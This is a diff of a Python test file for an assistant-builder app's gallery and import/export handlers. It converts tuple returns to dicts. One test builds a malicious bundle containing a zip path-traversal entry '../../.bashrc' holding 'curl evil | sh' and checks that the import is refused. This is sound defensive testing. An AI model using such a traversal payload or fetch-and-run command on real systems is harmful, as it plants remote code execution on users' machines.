@@ -12,9 +12,7 @@ from test_bundle import snapshot
 from test_ui import TEXT, make
 
 from gptbuilder.ui.gallery import Card, Gallery, card_markdown, last_used_text
-from gptbuilder.ui.handlers import Handlers
-
-SCREEN = 24  # values Handlers.open_assistant returns
+from gptbuilder.ui.handlers import SCREEN, Handlers
 
 
 def setup(services, tmp_path: Path) -> tuple[Handlers, Gallery, int]:
@@ -72,20 +70,22 @@ def test_last_used_wording():
 def test_open_goes_to_the_chat_with_its_starters(fake_services, tmp_path):
     h, g, aid = setup(fake_services, tmp_path)
     out = g.open(aid)
-    screen, (tabs, picker, active) = out[:SCREEN], out[SCREEN:]
-    assert screen[0] == aid and "Office helper" in screen[1]
-    assert screen[11]["visible"] and screen[11]["value"] == "When does it open?"
-    assert tabs.selected == active == "chat" and picker["value"] == aid
+    assert set(out) == {*SCREEN, "tabs", "picker", "active_tab"}
+    assert out["current"] == aid and "Office helper" in out["title"]
+    starter = out["starter_button_1"]
+    assert starter["visible"] and starter["value"] == "When does it open?"
+    assert out["tabs"].selected == out["active_tab"] == "chat" and out["picker"]["value"] == aid
     # Picking in the sidebar also goes to the chat, but only from the gallery.
-    assert g.leave_gallery("gallery")[0].selected == "chat"
-    assert g.leave_gallery("knowledge") == [{"__type__": "update"}, "knowledge"]
+    assert g.leave_gallery("gallery")["tabs"].selected == "chat"
+    assert g.leave_gallery("knowledge") == {"active_tab": "knowledge"}, "the tab stays"
 
 
 def test_duplicate_copies_configuration_and_documents(fake_services, tmp_path):
     h, g, aid = setup(fake_services, tmp_path)
-    picker, note, version = g.duplicate(aid, 3)
-    assert "Duplicated “Office helper” as “Office helper (2)”" in note and version == 4
-    assert {c[0] for c in picker["choices"]} == {"Office helper", "Office helper (2)"}
+    out = g.duplicate(aid, 3)
+    assert "Duplicated “Office helper” as “Office helper (2)”" in out["notice"]
+    assert out["gallery_version"] == 4
+    assert {c[0] for c in out["picker"]["choices"]} == {"Office helper", "Office helper (2)"}
     [copy] = [c for c in g.cards("") if c.name == "Office helper (2)"]
     assert copy.documents == 1
     assert fake_services.repo.get_assistant(copy.id).starters == ("When does it open?",)
@@ -96,73 +96,80 @@ def test_duplicate_copies_configuration_and_documents(fake_services, tmp_path):
 def test_delete_asks_first_and_keeps_the_assistant_in_use(fake_services, tmp_path):
     h, g, office = setup(fake_services, tmp_path)
     other = make(h, "Other")
-    pending, row, question = g.ask_delete(other)
-    assert pending == other and row["visible"] and "Delete “Other”?" in question
-    assert g.cancel_delete()[0] is None
+    asked = g.ask_delete(other)
+    assert asked["pending_delete"] == other and asked["gallery_confirm"]["visible"]
+    assert "Delete “Other”?" in asked["gallery_question"]
+    assert g.cancel_delete()["pending_delete"] is None
     assert len(g.cards("")) == 2, "nothing happens until confirmed"
 
-    current, picker, note, row, pending, version = g.delete(other, office, 0)
-    assert current == office, "the assistant on screen stays"
-    assert "Deleted “Other”" in note and not row["visible"] and pending is None and version == 1
+    out = g.delete(other, office, 0)
+    assert out["current"] == office, "the assistant on screen stays"
+    assert "Deleted “Other”" in out["notice"] and not out["gallery_confirm"]["visible"]
+    assert out["pending_delete"] is None and out["gallery_version"] == 1
     assert [c.name for c in g.cards("")] == ["Office helper"]
 
-    kept = g.screen_after_delete(office, note)
-    assert kept[0] == office and kept[1] == {"__type__": "update"} and kept[-1] == note
-    assert len(kept) == SCREEN
+    kept = g.screen_after_delete(office, out["notice"])
+    assert kept == {"current": office, "notice": out["notice"]}, "the rest stays as it is"
 
-    current, _, note, *_ = g.delete(office, office, 1)
-    assert current is None and g.cards("") == []
-    cleared = g.screen_after_delete(None, note)
-    assert cleared[0] is None and "No assistant chosen" in cleared[1]
+    out = g.delete(office, office, 1)
+    assert out["current"] is None and g.cards("") == []
+    cleared = g.screen_after_delete(None, out["notice"])
+    assert set(cleared) == set(SCREEN) and cleared["notice"] == out["notice"]
+    assert cleared["current"] is None and "No assistant chosen" in cleared["title"]
     assert not [p for p in fake_services.settings.files_dir.rglob("*") if p.is_file()]
 
 
 def test_export_and_import_an_assistant_file(fake_services, tmp_path):
     h, g, aid = setup(fake_services, tmp_path)
-    path, note = h.export_bundle(aid, True)
+    exported = h.export_bundle(aid, True)
+    path, note = exported["export_file"], exported["notice"]
     assert path.endswith("Office-helper.gptb") and "1 document(s), with its search index" in note
     assert "index/vectors.npy" in zipfile.ZipFile(path).namelist()
-    plain, note = h.export_bundle(aid, False)
-    assert "without its search index" in note
+    exported = h.export_bundle(aid, False)
+    plain = exported["export_file"]
+    assert "without its search index" in exported["notice"]
     assert "index/vectors.npy" not in zipfile.ZipFile(plain).namelist()
 
     seen: list[tuple[float, str]] = []
-    new_id, picker, note = h.import_file(path, lambda f, desc: seen.append((f, desc)))
+    imported = h.import_file(path, lambda f, desc: seen.append((f, desc)))
+    note, new_id = imported["notice"], imported["current"]
     assert "✅ Imported “Office helper (2)” with 1 document(s)" in note
     assert "All were already indexed here" in note, "same content: its passages are shared"
     assert seen and seen[-1][0] == 1.0 and any("office.txt" in d for _, d in seen)
-    assert new_id in {c[1] for c in picker["choices"]}
+    assert new_id in {c[1] for c in imported["picker"]["choices"]} and imported["imported"]
     history, _ = list(h.chat(new_id, "Where can visitors park?", []))[-1]
     assert "lot B" in history[-1]["content"]
 
-    _, _, note = h.import_file(plain)
+    note = h.import_file(plain)["notice"]
     assert "Office helper (3)" in note and "no search index" in note
 
 
 def test_import_tells_files_apart_by_content_not_name(fake_services, tmp_path):
     h, g, aid = setup(fake_services, tmp_path)
-    bundle, _ = h.export_bundle(aid, True)
+    bundle = h.export_bundle(aid, True)["export_file"]
     renamed = tmp_path / "renamed.json"
     shutil.copy(bundle, renamed)
-    _, _, note = h.import_file(str(renamed))
+    note = h.import_file(str(renamed))["notice"]
     assert "✅ Imported “Office helper (2)” with 1 document(s)" in note
-    config, _ = h.export(aid)
+    config = h.export(aid)["export_file"]
     as_bundle = tmp_path / "config.gptb"
     shutil.copy(config, as_bundle)
-    _, _, note = h.import_file(str(as_bundle))
+    note = h.import_file(str(as_bundle))["notice"]
     assert "✅ Imported as “Office helper (3)”" in note
 
 
 def test_a_hostile_file_is_refused_with_a_reason_and_nothing_changes(fake_services, tmp_path):
     h, g, aid = setup(fake_services, tmp_path)
-    bundle, _ = h.export_bundle(aid, True)
+    bundle = h.export_bundle(aid, True)["export_file"]
     evil = tmp_path / "evil.gptb"
     with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(evil, "w") as dst:
         for item in src.infolist():
             dst.writestr(item, src.read(item))
         dst.writestr("../../.bashrc", "curl evil | sh")
     before = snapshot(fake_services)
-    state, picker, note = h.import_file(str(evil))
+    refused = h.import_file(str(evil))
+    note = refused["notice"]
     assert note.startswith("⚠️") and "points outside its own folder" in note
+    assert not refused["imported"] and "current" not in refused
     assert snapshot(fake_services) == before and len(g.cards("")) == 1
-    assert h.export_bundle(None, True)[1].startswith("⚠️")
+    assert h.export_bundle(None, True)["notice"].startswith("⚠️")
